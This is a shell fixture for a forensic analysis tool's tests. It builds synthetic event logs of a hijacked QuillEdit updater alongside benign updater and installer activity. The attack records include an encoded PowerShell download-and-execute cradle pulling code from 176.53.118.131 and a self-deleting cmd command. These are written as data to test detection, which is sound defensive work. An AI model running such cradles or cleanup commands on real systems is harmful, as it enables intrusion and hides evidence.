# analysis-fixture.sh - builds small case files for the analysis tests with
# sqlite3 inserts (sourced by t3xxx scripts after lib.sh).
#
# fx_case CASE          an empty case file (created by casetrail itself)
# fx_sql CASE           run SQL from stdin against CASE; the temporary table
#                       "ev" takes one row per EVTX record, expanded by fx_ev_flush
# fx_reference CASE     the reference story in miniature: a benign updater run,
#                       the hijacked run (download, start, encoded PowerShell,
#                       connection, self-deletion), admin PowerShell, an
#                       installer deleting its temporary files, a browser
#                       updater, IOC hits (both IPs, the payload hash on the
#                       deleted file).
#
# Times in ev.ts are 'YYYY-MM-DD HH:MM:SS.fffffff' (UTC); fx_ev_flush turns
# them into FILETIME ticks.

fx_case() {
	printf 'x' >"$TRASH/.fx-empty.txt"
	casetrail ingest "$1" "$TRASH/.fx-empty.txt" >/dev/null 2>&1 || true
	sqlite3 "$1" "
	INSERT INTO source (id, kind, path, status, tool_version, added_at) VALUES
	  (101, 'evtx', 'Microsoft-Windows-Sysmon%4Operational.evtx', 'ok', 'test', 0),
	  (102, 'evtx', 'Security.evtx', 'ok', 'test', 0),
	  (103, 'volume', 'disk.raw', 'ok', 'test', 0),
	  (104, 'ioc', 'threat-report.txt', 'ok', 'test', 0),
	  (105, 'evtx', 'Microsoft-Windows-PowerShell%4Operational.evtx', 'ok', 'test', 0);"
}

# The SQL prologue: the ev staging table.
FX_EV_TABLE="CREATE TEMP TABLE ev (rid INTEGER, ts TEXT, src INTEGER, eid INTEGER,
  chan TEXT, image TEXT, cmd TEXT, pid INTEGER, guid TEXT, pimage TEXT,
  ppid INTEGER, pguid TEXT, target TEXT, dst_ip TEXT, dst_port INTEGER,
  xpid INTEGER, host_app TEXT, script TEXT, data TEXT);"

# Expand ev rows into record, event and evtx rows.
FX_EV_FLUSH="
INSERT INTO record (id, source_id, type, locator, offset, flags, summary)
  SELECT rid, src, 'evtx', 'record ' || rid, rid * 512, 0, 'event ' || eid FROM ev;
INSERT INTO event (record_id, ts, ts_desc)
  SELECT rid, (unixepoch(substr(ts, 1, 19)) + 11644473600) * 10000000
    + CAST(substr(ts, 21, 7) AS INTEGER), 'event created' FROM ev;
INSERT INTO evtx (record_id, record_number, written, created, event_id, provider,
  channel, computer, pid, data, image, command_line, process_id, process_guid,
  parent_image, parent_process_id, parent_process_guid, user_name, target_file,
  dst_ip, dst_port, script_text, host_application)
  SELECT rid, rid, t, t, eid,
    CASE chan WHEN 'S' THEN 'Microsoft-Windows-Sysmon' WHEN 'Security' THEN
      'Microsoft-Windows-Security-Auditing' ELSE 'Microsoft-Windows-PowerShell' END,
    CASE chan WHEN 'S' THEN 'Microsoft-Windows-Sysmon/Operational' ELSE chan END,
    'FIN-WS042', xpid, coalesce(data, '{}'), image, cmd, pid, guid, pimage, ppid,
    pguid, 'CORP\\jdoe', target, dst_ip, dst_port, script, host_app
  FROM (SELECT *, (unixepoch(substr(ts, 1, 19)) + 11644473600) * 10000000
    + CAST(substr(ts, 21, 7) AS INTEGER) AS t FROM ev);
DELETE FROM ev;"

fx_sql() {
	{ echo "$FX_EV_TABLE"; cat; echo "$FX_EV_FLUSH"; } | sqlite3 -bail "$1"
}

FX_HELPER='C:\Users\jdoe\AppData\Local\Temp\QEUpd\qeupdate_helper.exe'
FX_PATCH='C:\Users\jdoe\AppData\Local\Temp\QEUpd\QuillEdit_patch_3.2.1.exe'
FX_UPD='C:\Program Files (x86)\QuillEdit\QEUpdate.exe'
FX_PS='C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe'
FX_ENC='SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA3ADYALgA1ADMALgAxADEAOAAuADEAMwAxAC8AbABvAGcAbwAuAHAAbgBnACcAKQA='
FX_SHA256='5d1f4c2e0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d'

fx_reference() {
	fx_case "$1"
	fx_sql "$1" <<SQL
INSERT INTO ev (rid, ts, src, eid, chan, image, cmd, pid, guid, pimage, ppid, pguid, target, dst_ip, dst_port) VALUES
 -- services and the desktop
 (10, '2024-03-10 08:00:00.0000000', 101, 1, 'S', 'C:\Windows\System32\svchost.exe', 'C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule', 1000, '{svc}', 'C:\Windows\System32\services.exe', 600, NULL, NULL, NULL, NULL),
 (11, '2024-03-10 08:05:00.0000000', 101, 1, 'S', 'C:\Windows\explorer.exe', 'C:\Windows\Explorer.EXE', 2000, '{exp}', NULL, 1900, NULL, NULL, NULL, NULL),
 -- admin PowerShell (benign)
 (12, '2024-03-11 10:15:00.0000000', 101, 1, 'S', '$FX_PS', 'powershell.exe -NoProfile -Command "Get-Service | Where-Object Status -eq Running"', 3100, '{adm}', 'C:\Windows\explorer.exe', 2000, '{exp}', NULL, NULL, NULL),
 (13, '2024-03-11 10:16:00.0000000', 101, 1, 'S', '$FX_PS', 'powershell.exe Get-EventLog -LogName System -Newest 50', 3120, '{adm2}', 'C:\Windows\explorer.exe', 2000, '{exp}', NULL, NULL, NULL),
 -- installer deleting what it extracted (benign)
 (14, '2024-03-11 16:41:00.0000000', 101, 1, 'S', 'C:\Users\jdoe\Downloads\7z2301-x64.exe', '"C:\Users\jdoe\Downloads\7z2301-x64.exe"', 5000, '{7z}', 'C:\Windows\explorer.exe', 2000, '{exp}', NULL, NULL, NULL),
 (15, '2024-03-11 16:41:01.0000000', 101, 11, 'S', 'C:\Users\jdoe\Downloads\7z2301-x64.exe', NULL, 5000, '{7z}', NULL, NULL, NULL, 'C:\Users\jdoe\AppData\Local\Temp\7zS4C1A2B\setup.exe', NULL, NULL),
 (16, '2024-03-11 16:41:02.0000000', 101, 1, 'S', 'C:\Users\jdoe\AppData\Local\Temp\7zS4C1A2B\setup.exe', 'setup.exe /S', 5010, '{7zs}', 'C:\Users\jdoe\Downloads\7z2301-x64.exe', 5000, '{7z}', NULL, NULL, NULL),
 (17, '2024-03-11 16:41:10.0000000', 101, 5, 'S', 'C:\Users\jdoe\AppData\Local\Temp\7zS4C1A2B\setup.exe', NULL, 5010, '{7zs}', NULL, NULL, NULL, NULL, NULL, NULL),
 (18, '2024-03-11 16:41:12.0000000', 101, 23, 'S', 'C:\Users\jdoe\Downloads\7z2301-x64.exe', NULL, 5000, '{7z}', NULL, NULL, NULL, 'C:\Users\jdoe\AppData\Local\Temp\7zS4C1A2B\setup.exe', NULL, NULL),
 (19, '2024-03-11 16:41:12.1000000', 101, 23, 'S', 'C:\Users\jdoe\Downloads\7z2301-x64.exe', NULL, 5000, '{7z}', NULL, NULL, NULL, 'C:\Users\jdoe\AppData\Local\Temp\7zS4C1A2B\7z.dll', NULL, NULL),
 -- another vendor's updater (benign)
 (30, '2024-03-12 10:00:00.0000000', 101, 1, 'S', 'C:\Program Files (x86)\Google\Update\GoogleUpdate.exe', '"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /ua /installsource scheduler', 6000, '{gu}', 'C:\Windows\System32\svchost.exe', 1000, '{svc}', NULL, NULL, NULL),
 (31, '2024-03-12 10:00:02.0000000', 101, 3, 'S', 'C:\Program Files (x86)\Google\Update\GoogleUpdate.exe', NULL, 6000, '{gu}', NULL, NULL, NULL, NULL, '198.51.100.23', 443),
 (32, '2024-03-12 10:00:05.0000000', 101, 11, 'S', 'C:\Program Files (x86)\Google\Update\GoogleUpdate.exe', NULL, 6000, '{gu}', NULL, NULL, NULL, 'C:\Program Files (x86)\Google\Update\Install\{A1}\setup.exe', NULL, NULL),
 (33, '2024-03-12 10:00:06.0000000', 101, 1, 'S', 'C:\Program Files (x86)\Google\Update\Install\{A1}\setup.exe', 'setup.exe --update', 6010, '{gus}', 'C:\Program Files (x86)\Google\Update\GoogleUpdate.exe', 6000, '{gu}', NULL, NULL, NULL),
 -- the benign QuillEdit update a day earlier
 (40, '2024-03-12 14:00:00.5000000', 101, 1, 'S', '$FX_UPD', '"$FX_UPD" /check', 4312, '{u1}', 'C:\Windows\System32\svchost.exe', 1000, '{svc}', NULL, NULL, NULL),
 (41, '2024-03-12 14:00:02.1000000', 101, 3, 'S', '$FX_UPD', NULL, 4312, '{u1}', NULL, NULL, NULL, NULL, '203.0.113.10', 443),
 (42, '2024-03-12 14:00:05.3000000', 101, 11, 'S', '$FX_UPD', NULL, 4312, '{u1}', NULL, NULL, NULL, '$FX_PATCH', NULL, NULL),
 (43, '2024-03-12 14:00:07.0000000', 101, 1, 'S', '$FX_PATCH', '"$FX_PATCH" /quiet', 4420, '{p1}', '$FX_UPD', 4312, '{u1}', NULL, NULL, NULL),
 (44, '2024-03-12 14:00:21.0000000', 101, 5, 'S', '$FX_PATCH', NULL, 4420, '{p1}', NULL, NULL, NULL, NULL, NULL, NULL),
 (45, '2024-03-12 14:00:40.0000000', 101, 23, 'S', '$FX_UPD', NULL, 4312, '{u1}', NULL, NULL, NULL, '$FX_PATCH', NULL, NULL),
 -- the attack
 (50, '2024-03-13 14:00:00.5000000', 101, 1, 'S', '$FX_UPD', '"$FX_UPD" /check', 5120, '{u2}', 'C:\Windows\System32\svchost.exe', 1000, '{svc}', NULL, NULL, NULL),
 (51, '2024-03-13 14:02:11.4000000', 101, 3, 'S', '$FX_UPD', NULL, 5120, '{u2}', NULL, NULL, NULL, NULL, '5.39.218.205', 80),
 (52, '2024-03-13 14:02:13.2000000', 101, 11, 'S', '$FX_UPD', NULL, 5120, '{u2}', NULL, NULL, NULL, '$FX_HELPER', NULL, NULL),
 (53, '2024-03-13 14:02:15.6000000', 101, 1, 'S', '$FX_HELPER', '"$FX_HELPER"', 6644, '{h}', '$FX_UPD', 5120, '{u2}', NULL, NULL, NULL),
 (54, '2024-03-13 14:02:17.0120000', 101, 1, 'S', '$FX_PS', 'powershell.exe -NoP -NonI -W Hidden -Enc $FX_ENC', 7012, '{ps}', '$FX_HELPER', 6644, '{h}', NULL, NULL, NULL),
 (55, '2024-03-13 14:02:18.9000000', 101, 3, 'S', '$FX_PS', NULL, 7012, '{ps}', NULL, NULL, NULL, NULL, '176.53.118.131', 80),
 (56, '2024-03-13 14:02:25.2000000', 101, 1, 'S', 'C:\Windows\System32\cmd.exe', 'cmd.exe /c ping 127.0.0.1 -n 3 > nul & del /f /q "$FX_HELPER"', 7236, '{cmd}', '$FX_HELPER', 6644, '{h}', NULL, NULL, NULL),
 (57, '2024-03-13 14:02:25.3000000', 101, 1, 'S', 'C:\Windows\System32\PING.EXE', 'ping  127.0.0.1 -n 3', 7244, '{ping}', 'C:\Windows\System32\cmd.exe', 7236, '{cmd}', NULL, NULL, NULL),
 (58, '2024-03-13 14:02:25.8000000', 101, 5, 'S', '$FX_HELPER', NULL, 6644, '{h}', NULL, NULL, NULL, NULL, NULL, NULL),
 (59, '2024-03-13 14:02:27.5000000', 101, 23, 'S', 'C:\Windows\System32\cmd.exe', NULL, 7236, '{cmd}', NULL, NULL, NULL, '$FX_HELPER', NULL, NULL),
 -- Security 4688 repeating Sysmon 1 (must not make a second process)
 (60, '2024-03-13 14:02:17.0120000', 102, 4688, 'Security', '$FX_PS', 'powershell.exe -NoP -NonI -W Hidden -Enc $FX_ENC', 7012, NULL, '$FX_HELPER', 6644, NULL, NULL, NULL, NULL);
INSERT INTO ev (rid, ts, src, eid, chan, xpid, script) VALUES
 (61, '2024-03-13 14:02:19.5000000', 105, 4104, 'Microsoft-Windows-PowerShell/Operational', 7012,
  'IEX (New-Object Net.WebClient).DownloadString(''http://176.53.118.131/logo.png'')');
SQL
	sqlite3 -bail "$1" <<SQL
INSERT INTO script_block (source_id, script_block_id, parts_total, parts_seen, first_record_id, text)
  VALUES (105, '{sb-1}', 1, 1, 61, 'IEX (New-Object Net.WebClient).DownloadString(''http://176.53.118.131/logo.png'')');
INSERT INTO record (id, source_id, type, locator, flags, summary) VALUES
  (70, 103, 'file', 'MFT 1234-3', 9, 'qeupdate_helper.exe (deleted)'),
  (71, 103, 'usn', 'USN 0x5a00', 0, 'qeupdate_helper.exe FILE_DELETE|CLOSE');
INSERT INTO event (record_id, ts, ts_desc) VALUES
  (70, 133548121332000000, 'SI created'),
  (71, 133548121475000000, 'USN change');
INSERT INTO file (record_id, fs_type, path, name, inode, seq, type, size, allocated,
  si_crtime, sha256, md5, content) VALUES
  (70, 'ntfs', '/Users/jdoe/AppData/Local/Temp/QEUpd/qeupdate_helper.exe',
   'qeupdate_helper.exe', 1234, 3, 'file', 40960, 0, 133548121332000000,
   '$FX_SHA256', '0123456789abcdef0123456789abcdef', 'recovered');
INSERT INTO usn (record_id, usn, major, ts, file_inode, file_seq, reason, reasons, name, path)
  VALUES (71, 23040, 2, 133548121475000000, 1234, 3, 2147484160, 'FILE_DELETE|CLOSE',
   'qeupdate_helper.exe', '/Users/jdoe/AppData/Local/Temp/QEUpd/qeupdate_helper.exe');
INSERT INTO indicator (id, source_id, line, category, type, value, normalized, valid, to_ids) VALUES
  (1, 104, 10, 'Network activity', 'ip-dst', '5.39.218.205', '5.39.218.205', 1, 1),
  (2, 104, 11, 'Network activity', 'ip-dst', '176.53.118.131', '176.53.118.131', 1, 1),
  (3, 104, 12, 'Payload delivery', 'sha256', '$FX_SHA256', '$FX_SHA256', 1, 1),
  (4, 104, 13, 'Payload delivery', 'sha1', '<sha1>', NULL, 0, 1);
INSERT INTO indicator_hit (indicator_id, record_id, field, matched) VALUES
  (1, 51, 'dst_ip', '5.39.218.205'),
  (2, 55, 'dst_ip', '176.53.118.131'),
  (2, 54, 'command_line', '176.53.118.131'),
  (3, 70, 'sha256', '$FX_SHA256');
SQL
}
